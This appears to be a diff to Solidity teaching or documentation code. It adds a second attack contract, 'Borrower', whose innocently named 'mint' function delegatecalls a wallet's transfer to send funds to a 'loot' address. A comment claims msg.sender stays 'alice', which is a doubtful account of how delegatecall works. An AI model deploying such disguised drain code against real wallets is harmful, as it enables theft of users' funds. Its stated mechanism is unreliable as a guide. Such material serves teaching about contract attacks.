@@ -20,3 +20,13 @@ contract FreeMint {
     }
 }
 // #endregion attack
+
+// #region second
+/// Runs the wallet's own code by delegatecall: there, msg.sender is still alice.
+contract Borrower {
+    function mint(address wallet, address payable loot, uint256 amount) external {
+        (bool ok, ) = wallet.delegatecall(abi.encodeCall(IWallet.transfer, (loot, amount)));
+        require(ok);
+    }
+}
+// #endregion second
